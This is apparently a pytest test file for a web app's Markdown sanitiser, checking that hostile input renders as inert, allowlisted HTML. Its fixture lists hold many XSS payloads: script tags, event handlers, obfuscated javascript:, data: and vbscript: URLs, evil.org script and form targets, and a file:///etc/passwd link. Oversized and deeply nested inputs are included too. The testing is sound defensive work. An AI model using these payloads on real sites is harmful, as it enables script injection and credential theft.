"""The one text pipeline: hostile Markdown and HTML come out as allowlisted, inert HTML."""
from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from markupsafe import Markup

from app import text
from app.text import ALLOWED_TAGS, LINK_REL, MAX_SOURCE_LENGTH, render_markdown

SAFE_SCHEMES = {"http", "https", "mailto"}
NESTING_BOUND = 25  # markdown-it's maxNesting is 20; a few wrapper levels (p, li) on top are fine


def parse(html: str) -> BeautifulSoup:
    """Parsed HTML with `rel` kept as the literal attribute string."""
    return BeautifulSoup(str(html), "html.parser", multi_valued_attributes=None)


def href_scheme(href: str) -> str | None:
    """The scheme a browser would see in `href` (WHATWG URL parsing), or None for a relative reference.

    Browsers drop leading/trailing C0 controls and spaces and every tab and newline before they read the
    scheme; entities are already decoded by the HTML parser.
    """
    cleaned = re.sub(r"[\t\n\r]", "", href).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                                    "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d"
                                                    "\x1e\x1f ")
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else None


def attribute_allowed(tag: str, name: str, value) -> bool:
    """The pipeline's own allowlist, a list or a filter function per tag; rel is set on every link."""
    if tag == "a" and name == "rel":
        return True
    rule = text.ALLOWED_ATTRIBUTES.get(tag, [])
    value = " ".join(value) if isinstance(value, list) else value
    return rule(tag, name, value) if callable(rule) else name in rule


def assert_inert(html: str) -> BeautifulSoup:
    """Every element is allowlisted, no event handler survives, every link is safe and marked as user content."""
    soup = parse(html)
    for element in soup.find_all(True):
        assert element.name in ALLOWED_TAGS, f"<{element.name}> survived"
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), f"{attribute} survived on <{element.name}>"
            assert attribute_allowed(element.name, attribute, value), f"{attribute} survived on <{element.name}>"
    for link in soup.find_all("a"):
        assert link["rel"] == LINK_REL
        if link.has_attr("href"):
            scheme = href_scheme(link["href"])
            assert scheme is None or scheme in SAFE_SCHEMES, f"unsafe link {link['href']!r}"
    return soup


def nesting_depth(soup: BeautifulSoup) -> int:
    return max((len(list(element.parents)) for element in soup.find_all(True)), default=0)


# --- hostile input -------------------------------------------------------------------------------

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    "<style>body{display:none}</style>",
    "<iframe src=\"https://evil.org\"></iframe>",
    "<form action=\"https://evil.org\"><input name=password><button>Go</button></form>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\" style=\"color:red\">para</p>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=\"https://example.org\" onclick=\"alert(1)\" target=\"_blank\" rel=\"opener\">x</a>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<base href=\"https://evil.org/\"><meta http-equiv=refresh content=\"0;url=https://evil.org\">",
    "<p><b>unclosed <i>tags <a href=\"javascript:alert(1)\">and a link",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!-- <script>alert(1)</script> -->",
    "<<script>script>alert(1)<</script>/script>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
]

MARKDOWN_WITH_HTML = [
    "# Title <script>alert(1)</script>",
    "**bold <img src=x onerror=alert(1)>**",
    "- item <iframe src=x></iframe>\n- <form><input></form>",
    "> quote <svg><script>alert(1)</script></svg>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "| a | b |\n|---|---|\n| <script>x</script> | <style>y</style> |",
    "text\n\n<div onclick=\"alert(1)\">\nblock html\n</div>\n\nmore",
    "![image](https://evil.org/track.png)",
    "![x](javascript:alert(1))",
    "[x](https://example.org){onclick=alert(1)}",
    "[x](https://example.org \"a\\\" onclick=\\\"alert(1)\")",
]

JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#X6a;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#13;ascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "file:///etc/passwd",
]


def _link_forms(url: str) -> list[str]:
    return [
        f"[click]({url})",
        f"[click](<{url}>)",
        f"[click][ref]\n\n[ref]: {url}",
        f"<{url}>",
        f"<a href=\"{url}\">click</a>",
        f"<a href='{url}'>click</a>",
        f"<a href={url}>click</a>",
        url,
    ]


HOSTILE_LINKS = [form for url in JAVASCRIPT_URLS for form in _link_forms(url)]


@pytest.mark.parametrize("source", RAW_HTML + MARKDOWN_WITH_HTML + HOSTILE_LINKS)
def test_hostile_markdown_renders_inert(source):
    assert_inert(render_markdown(source))


@pytest.mark.parametrize("url", JAVASCRIPT_URLS)
def test_no_link_points_at_a_script_scheme(url):
    for source in _link_forms(url):
        links = parse(render_markdown(source)).find_all("a", href=True)
        assert [a["href"] for a in links if href_scheme(a["href"]) not in (None, *SAFE_SCHEMES)] == []


@pytest.mark.parametrize("source", RAW_HTML)
def test_raw_html_is_shown_as_text_not_markup(source):
    soup = assert_inert(render_markdown(source))
    assert soup.find_all(["script", "style", "iframe", "form", "svg", "object", "embed", "img", "div"]) == []
    visible = soup.get_text()
    assert "<" in visible  # the reader sees the tag as text, escaped


@pytest.mark.parametrize("source", RAW_HTML)
def test_the_allowlist_holds_even_for_markup_that_reaches_it(source):
    """Defence in depth: were the Markdown renderer ever to pass HTML through, the cleaner alone is enough."""
    soup = assert_inert(text._cleaner().clean(source))
    assert soup.find_all(["script", "style", "iframe", "form", "svg", "object", "embed", "img", "math"]) == []


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "jav&#x09;ascript:alert(1)",
    " JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,x", "vbscript:x",
])
def test_the_cleaner_drops_script_hrefs(href):
    link = parse(text._cleaner().clean(f'<a href="{href}" onclick="x">x</a>')).a
    assert link is not None and not link.has_attr("href") and not link.has_attr("onclick")


@pytest.mark.parametrize("source", [
    "> " * 10_000 + "deep",
    "".join(">" * level + " x\n" for level in range(1, 2_000)),
    "- " * 10_000 + "deep",
    "1. " * 10_000 + "deep",
    "".join("  " * level + "- x\n" for level in range(10_000)),
    "> - " * 5_000 + "deep",
    "[" * 10_000 + "x" + "](https://example.org)" * 10_000,
    "<div>" * 10_000 + "x",
])
def test_deep_nesting_is_cut_to_a_bound(source):
    soup = assert_inert(render_markdown(source))
    assert nesting_depth(soup) <= NESTING_BOUND


@pytest.mark.parametrize("source", [
    "word " * 1_000_000,
    "*" * 10_000 + "x" + "*" * 10_000,
    "https://example.org/ " * 50_000,
    "| a |\n|---|\n" + "| x |\n" * 5_000,  # bleach's tree walker is quadratic in table rows: kept moderate
    "`" * 200_000,
])
def test_huge_input_is_cut_and_does_not_crash(source):
    html = render_markdown(source)
    soup = assert_inert(html)
    assert len(soup.get_text().strip()) <= MAX_SOURCE_LENGTH
    assert len(html) <= 20 * MAX_SOURCE_LENGTH  # output grows at most linearly with the cut source


# --- what people are meant to write ----------------------------------------------------------------

@pytest.mark.parametrize(("source", "tag", "content"), [
    ("*soft*", "em", "soft"),
    ("_soft_", "em", "soft"),
    ("**strong**", "strong", "strong"),
    ("~~gone~~", "s", "gone"),
    ("`a < b`", "code", "a < b"),
    ("> quoted", "blockquote", "quoted"),
    ("---", "hr", ""),
])
def test_inline_and_block_formatting(source, tag, content):
    element = assert_inert(render_markdown(source)).find(tag)
    assert element is not None
    assert element.get_text().strip() == content


def test_lists_keep_order_and_start():
    soup = assert_inert(render_markdown("- a\n- b\n\n3. three\n4. four"))
    assert [li.get_text() for li in soup.ul.find_all("li")] == ["a", "b"]
    assert soup.ol["start"] == "3"
    assert [li.get_text() for li in soup.ol.find_all("li")] == ["three", "four"]


def test_markdown_tables_keep_their_header_and_rows():
    soup = assert_inert(render_markdown("| Name | Votes |\n|---|---:|\n| Bänke | 12 |\n| Licht | 3 |"))
    assert [th.get_text() for th in soup.table.thead.find_all("th")] == ["Name", "Votes"]
    assert [[td.get_text() for td in tr.find_all("td")] for tr in soup.table.tbody.find_all("tr")] == [
        ["Bänke", "12"], ["Licht", "3"]]


@pytest.mark.parametrize(("source", "href", "label"), [
    ("see https://example.org/plan?x=1 now", "https://example.org/plan?x=1", "https://example.org/plan?x=1"),
    ("see www.example.org now", "http://www.example.org", "www.example.org"),
    ("write to rathaus@example.org", "mailto:rathaus@example.org", "rathaus@example.org"),
    ("[the plan](https://example.org/plan \"Plan\")", "https://example.org/plan", "the plan"),
    ("<https://example.org>", "https://example.org", "https://example.org"),
    ("[up](/ideas?page=2)", "/ideas?page=2", "up"),
])
def test_links_are_kept_and_marked_as_user_content(source, href, label):
    links = assert_inert(render_markdown(source)).find_all("a")
    assert [(a["href"], a.get_text(), a["rel"]) for a in links] == [(href, label, LINK_REL)]


@pytest.mark.parametrize(("source", "href"), [
    ("[there](//elsewhere.example/plan)", "https://elsewhere.example/plan"),
    ("[there]( //elsewhere.example/plan)", "https://elsewhere.example/plan"),
    ("[there][plan]\n\n[plan]: //elsewhere.example/ref", "https://elsewhere.example/ref"),
    ("<//elsewhere.example>", "https://elsewhere.example"),
    ("[there](/\\elsewhere.example)", "/%5Celsewhere.example"),  # a path here, not another host
])
def test_no_link_is_protocol_relative(source, href):
    """A browser reads "//host" in the page's own scheme: user content names the scheme, so no link depends on it."""
    links = assert_inert(render_markdown(source)).find_all("a")
    assert [a["href"] for a in links] == [href]


def test_code_blocks_keep_their_text_escaped():
    source = "```html\n<script>alert(1)</script>\n<b>bold</b> & more\n```"
    soup = assert_inert(render_markdown(source))
    assert soup.pre.code.get_text() == "<script>alert(1)</script>\n<b>bold</b> & more\n"
    assert soup.find_all(["script", "b"]) == []


@pytest.mark.parametrize(("source", "tag"), [
    ("# One", "h3"), ("## Two", "h4"), ("### Three", "h5"), ("#### Four", "h6"), ("###### Six", "h6"),
    ("One\n===", "h3"), ("Two\n---", "h4"),
])
def test_headings_shift_below_the_page_h1_and_h2(source, tag):
    soup = assert_inert(render_markdown(source))
    assert [h.name for h in soup.find_all(re.compile(r"^h\d$"))] == [tag]


@pytest.mark.parametrize("source", [None, ""])
def test_empty_source_renders_nothing(source):
    assert render_markdown(source) == Markup("")


@pytest.mark.parametrize("source", ["plain", "<script>x</script>", "*x*"])
def test_render_markdown_returns_safe_markup(source):
    assert type(render_markdown(source)) is Markup


# --- the Jinja filter -----------------------------------------------------------------------------

def test_markdown_filter_renders_once_and_safely(app):
    template = app.jinja_env.from_string("<div>{{ body|markdown }}</div>")
    with app.app_context():
        html = template.render(body="**strong** <script>alert(1)</script> [x](javascript:alert(1))")
    div = parse(html).div
    assert div.p.strong.get_text() == "strong"  # not escaped a second time by autoescaping
    assert div.find_all("script") == [] and div.find_all("a") == []
    assert "<script>alert(1)</script>" in div.get_text()


def test_markdown_filter_is_the_pipeline(app):
    assert app.jinja_env.filters["markdown"] is render_markdown
